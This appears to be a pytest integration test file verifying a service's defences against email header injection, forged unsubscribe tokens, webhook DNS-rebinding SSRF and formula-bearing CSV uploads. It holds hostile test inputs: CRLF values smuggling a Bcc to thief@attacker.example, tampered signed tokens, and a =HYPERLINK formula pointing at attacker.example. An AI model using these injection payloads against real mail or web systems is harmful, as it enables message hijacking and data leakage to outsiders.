"""Security review findings without a home elsewhere (docs/security.md lists them).

- Email header injection: every outbound email is built by one of two functions in
  ``notify/email.py``; no value a customer or tenant wrote (a ticket subject, a customer name, a
  template) can add a header or a recipient.
- Unsubscribe links: sealed for their purpose; an edited, re-purposed or foreign-key token is
  refused and changes nothing.
- Webhook SSRF: the connection goes to the address that was checked, never to a second DNS
  answer (rebinding), with TLS still verified against the host name.
"""

from __future__ import annotations

import email
from datetime import UTC, datetime
from email.message import Message
from email.utils import parseaddr
from typing import Any

import pytest

from tests.integration.conftest import Api, TenantKeys, body_of
from tests.support.clocks import patch_engine_clock
from tests.support.followups import Clock, Engine, new_customer, plan_followup, sent_emails

INJECTED = "Boiler\r\nBcc: thief@attacker.example"
REGION = "eu-west-1"


def _outbox() -> list[Any]:
    from moto.core import DEFAULT_ACCOUNT_ID
    from moto.ses.models import ses_backends

    return list(ses_backends[DEFAULT_ACCOUNT_ID][REGION].sent_messages)


def _headers(raw: str) -> Message:
    return email.message_from_bytes(raw.encode("utf-8"))


# --- email header injection ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("to", "subject", "headers"),
    [
        ("ona@example.lt", INJECTED, {}),
        ("ona@example.lt", "Filter", {"List-Unsubscribe": "<https://x.example/u>\r\nBcc: a@b.c"}),
        ("ona@example.lt\r\nBcc: thief@attacker.example", "Filter", {}),
        ("ona@example.lt, thief@attacker.example", "Filter", {}),
    ],
    ids=["subject", "header_value", "address_crlf", "address_list"],
)
def test_raw_emails_refuse_line_breaks_in_headers_and_extra_recipients(
    aws: None, to: str, subject: str, headers: dict[str, str]
) -> None:
    from chalicelib.notify.email import send_message
    from chalicelib.notify.errors import DeliveryFailed

    with pytest.raises(DeliveryFailed) as refused:
        send_message(to, subject, "text", "<p>html</p>", headers)
    assert refused.value.retryable is False  # the same message would fail again
    assert _outbox() == []


def test_a_display_name_with_line_breaks_stays_one_header(aws: None) -> None:
    from chalicelib.notify.email import send_message

    send_message("ona@example.lt", "Filter", "text", "<p>html</p>", to_name=INJECTED)
    [sent] = _outbox()
    message = _headers(sent.raw_data)
    assert message["Bcc"] is None
    assert message.get_all("To") == ['"Boiler Bcc: thief@attacker.example" <ona@example.lt>']
    # SES was given one recipient (moto lists the To header's form of it too).
    assert {parseaddr(d)[1] for d in sent.destinations} == {"ona@example.lt"}


def test_plain_emails_flatten_a_subject_written_by_a_customer(aws: None) -> None:
    """Ticket and widget emails (SES ``SendEmail``) carry the ticket's subject, which a widget
    visitor wrote: it reaches SES as one line, whatever it contained."""
    from chalicelib.notify.email import send_email

    assert send_email("ona@example.lt", f"Re: {INJECTED}", "body")
    [sent] = _outbox()
    assert sent.subject == "Re: Boiler Bcc: thief@attacker.example"
    assert sent.destinations["ToAddresses"] == ["ona@example.lt"]
    assert not send_email("ona@example.lt\r\nBcc: thief@attacker.example", "Hello", "body")
    assert len(_outbox()) == 1


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> Clock:
    c = Clock(datetime(2026, 3, 2, 10, 0, tzinfo=UTC))  # noon in Vilnius: no quiet hours
    patch_engine_clock(monkeypatch, c)
    return c


def test_a_follow_up_to_a_customer_with_a_hostile_name_has_one_recipient(
    api: Api, tenant_a: TenantKeys, clock: Clock
) -> None:
    customer = new_customer(api, tenant_a, name=INJECTED, email="ona@example.lt")
    plan_followup(api, tenant_a, clock.now, customer_id=customer["id"], message="Time to change.")
    # The API refuses a line break in a subject it will put in a header.
    refused = api.request(
        "POST",
        "/v1/followups",
        key=tenant_a.admin_key,
        json_body={
            "customer_id": customer["id"],
            "due_at": clock.now.isoformat(),
            "subject": INJECTED,
            "message": "x",
        },
    )
    assert refused.status_code == 422, refused.body
    Engine(clock).tick()
    [mail] = sent_emails()
    assert mail["Bcc"] is None
    assert mail.get_all("To") == ['"Boiler Bcc: thief@attacker.example" <ona@example.lt>']


# --- unsubscribe links ---------------------------------------------------------------------


def _unsubscribed(api: Api, token: str) -> bool:
    r = api.request("GET", f"/widget/v1/unsubscribe/{token}")
    assert r.status_code == 200, r.body
    return bool(body_of(r)["unsubscribed"])


def test_edited_repurposed_or_foreign_key_unsubscribe_tokens_change_nothing(
    api: Api, tenant_a: TenantKeys
) -> None:
    from chalicelib.domain.ids import new_id
    from chalicelib.domain.sealed import seal
    from chalicelib.services.signing import derived_key
    from chalicelib.services.unsubscribe import PURPOSE, unsubscribe_token

    r = api.request(
        "POST",
        "/v1/customers",
        key=tenant_a.admin_key,
        json_body={"name": "Ona", "email": "ona@example.lt"},
    )
    customer_id = body_of(r)["id"]
    genuine = unsubscribe_token(tenant_a.tenant_id, customer_id, "all", new_id())
    payload = {"t": tenant_a.tenant_id, "c": customer_id, "s": "all", "f": new_id()}
    body, mac = genuine.split(".")
    forged = [
        body[:-1] + ("A" if body[-1] != "A" else "B") + "." + mac,  # payload edited
        body + "." + mac[:-1] + ("A" if mac[-1] != "A" else "B"),  # signature edited
        seal(derived_key("survey"), PURPOSE, payload),  # another purpose's key
        seal(derived_key(PURPOSE), "survey", payload),  # another purpose's label
        genuine + ".x",
    ]
    for token in forged:
        r = api.request("POST", f"/widget/v1/unsubscribe/{token}")
        assert r.status_code == 400, (token, r.body)
        assert body_of(r)["code"] == "invalid_unsubscribe_link"
    assert _unsubscribed(api, genuine) is False  # none of them unsubscribed her
    assert api.request("POST", f"/widget/v1/unsubscribe/{genuine}").status_code == 200
    assert _unsubscribed(api, genuine) is True


# --- webhook SSRF: the checked address is the one connected to -----------------------------


def test_a_webhook_connects_to_the_checked_address_with_tls_on_the_host_name(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from chalicelib.domain.webhook_signing import parse_target
    from chalicelib.notify import webhooks as http
    from chalicelib.notify.errors import DeliveryFailed

    answers = iter([["93.184.216.34"], ["10.0.0.7"]])  # a second lookup would be rebound
    monkeypatch.setattr(http, "resolve", lambda host, port: next(answers))
    opened: list[tuple[str, dict[str, Any]]] = []

    class Pool:
        def __init__(self, address: str, **kwargs: Any) -> None:
            opened.append((address, kwargs))

        def __enter__(self) -> Pool:
            return self

        def __exit__(self, *args: object) -> None:
            return None

        def urlopen(self, *args: Any, **kwargs: Any) -> Any:
            assert kwargs["redirect"] is False
            raise __import__("urllib3").exceptions.NewConnectionError(None, "stopped here")

    monkeypatch.setattr("urllib3.HTTPSConnectionPool", Pool)
    with pytest.raises(DeliveryFailed):
        http.post(parse_target("https://hooks.example.com/in"), b"{}", {})
    [(address, options)] = opened
    assert address == "93.184.216.34"  # resolved once, pinned
    assert options["server_hostname"] == options["assert_hostname"] == "hooks.example.com"
    assert options["cert_reqs"] == "CERT_REQUIRED"
    assert options["retries"] is False


# --- spreadsheets: none generated; uploaded ones are handed back as downloads, untouched -----


def test_an_uploaded_csv_with_formulas_is_downloaded_as_a_file_not_rendered(
    api: Api, tenant_a: TenantKeys
) -> None:
    import requests

    from tests.integration.test_ticket_attachments import announce, confirm, upload

    r = api.request(
        "POST",
        "/v1/tickets",
        key=tenant_a.admin_key,
        json_body={"subject": "s", "description": "d", "customer_email": "c@x.lt"},
    )
    ticket_id = body_of(r)["id"]
    content = b'=HYPERLINK("https://attacker.example","invoice"),1\n'
    r = announce(
        api,
        tenant_a,
        ticket_id,
        filename="invoice.csv",
        content_type="text/csv",
        size=len(content),
    )
    assert r.status_code == 201, r.body
    created = body_of(r)
    upload(created, content)
    done = body_of(confirm(api, tenant_a, ticket_id, created["attachment"]["id"]))
    downloaded = requests.get(done["download_url"], timeout=10)
    assert downloaded.content == content  # the customer's file, byte for byte
    assert downloaded.headers["Content-Disposition"] == 'attachment; filename="invoice.csv"'
